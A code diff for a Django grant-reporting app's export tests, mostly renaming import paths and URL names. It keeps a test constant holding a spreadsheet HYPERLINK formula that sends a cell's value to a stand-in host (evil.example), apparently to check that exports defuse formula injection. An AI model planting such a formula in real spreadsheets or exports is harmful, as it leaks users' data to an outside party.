@@ -9,11 +9,11 @@ from openpyxl import load_workbook
 
 from accounts.models import ProgrammeRole
 from applications.models import ApplicationState
-from reporting import exports
-from reporting.models import ExportJob
+from reporting.data import exports
+from reporting.data.models import ExportJob
 from tests.factories import application_in_state
 
-from .builders import make_grant, pay_tranche
+from tests.reporting.builders import make_grant, pay_tranche
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
@@ -83,7 +83,7 @@ def test_each_user_exports_only_what_they_may_see(data, grantee, outsider, manag
 def test_blind_calls_hide_the_applicant_from_reviewers(call, grantee_org, grantee, make_user, grant_role):
     from django.utils import timezone
 
-    from applications.models import Review, ReviewState
+    from applications.review.models import Review, ReviewState
 
     type(call).objects.filter(pk=call.pk).update(blind_review=True)
     app = application_in_state(call, grantee_org, grantee, state=ApplicationState.UNDER_REVIEW)
@@ -99,33 +99,33 @@ def test_blind_calls_hide_the_applicant_from_reviewers(call, grantee_org, grante
 
 def test_download_view_and_background_job(data, manager, grantee, client, monkeypatch, django_capture_on_commit_callbacks):
     client.force_login(manager)
-    response = client.get(reverse("export_download", args=["grants", "xlsx"]))
+    response = client.get(reverse("data:export_download", args=["grants", "xlsx"]))
     assert response.status_code == 200 and response["Content-Disposition"].endswith('.xlsx"')
-    assert client.get(reverse("export_download", args=["nothing", "csv"])).status_code == 404
+    assert client.get(reverse("data:export_download", args=["nothing", "csv"])).status_code == 404
     monkeypatch.setattr(exports, "BACKGROUND_ROWS", 0)  # everything counts as big
     with django_capture_on_commit_callbacks(execute=True):
-        response = client.get(reverse("export_download", args=["tranches", "csv"]))
+        response = client.get(reverse("data:export_download", args=["tranches", "csv"]))
     job = ExportJob.objects.get()
-    assert response.status_code == 302 and response["Location"] == reverse("export_job", args=[job.pk])
+    assert response.status_code == 302 and response["Location"] == reverse("data:export_job", args=[job.pk])
     assert job.state == ExportJob.State.READY and job.rows_done == job.rows_total == 3
     page = client.get(response["Location"]).content.decode()
-    assert reverse("export_job_download", args=[job.pk]) in page
-    download = client.get(reverse("export_job_download", args=[job.pk]))
+    assert reverse("data:export_job_download", args=[job.pk]) in page
+    download = client.get(reverse("data:export_job_download", args=[job.pk]))
     assert download.status_code == 200 and b"".join(download.streaming_content).startswith(b"\xef\xbb\xbf")
     client.force_login(grantee)
-    assert client.get(reverse("export_job", args=[job.pk])).status_code == 404
-    assert client.get(reverse("export_job_download", args=[job.pk])).status_code == 404
+    assert client.get(reverse("data:export_job", args=[job.pk])).status_code == 404
+    assert client.get(reverse("data:export_job_download", args=[job.pk])).status_code == 404
 
 
 def test_a_job_is_never_served_before_it_is_ready(manager, client):
     job = ExportJob.objects.create(user=manager, kind="grants", file_format="csv", stored_name="x.csv")
     (exports.exports_root() / "x.csv").write_bytes(b"half")
     client.force_login(manager)
-    assert client.get(reverse("export_job_download", args=[job.pk])).status_code == 404
+    assert client.get(reverse("data:export_job_download", args=[job.pk])).status_code == 404
     exports.export_job_run(job_id=job.pk)
     job.refresh_from_db()
     assert job.state == ExportJob.State.READY and job.stored_name != "x.csv"
-    assert client.get(reverse("export_job_download", args=[job.pk])).status_code == 200
+    assert client.get(reverse("data:export_job_download", args=[job.pk])).status_code == 200
 
 
 def test_exports_run_a_constant_number_of_queries(call, grantee_org, grantee, manager):
@@ -152,7 +152,7 @@ def test_an_undeclared_or_conflicted_reviewer_exports_nothing_of_the_application
         call, grantee_org, grantee, make_user, grant_role, declaration):
     from django.utils import timezone
 
-    from applications.models import Review
+    from applications.review.models import Review
 
     app = application_in_state(call, grantee_org, grantee, state=ApplicationState.UNDER_REVIEW)
     reviewer = grant_role(make_user("rev2@example.org"), call.programme, ProgrammeRole.Role.REVIEWER)
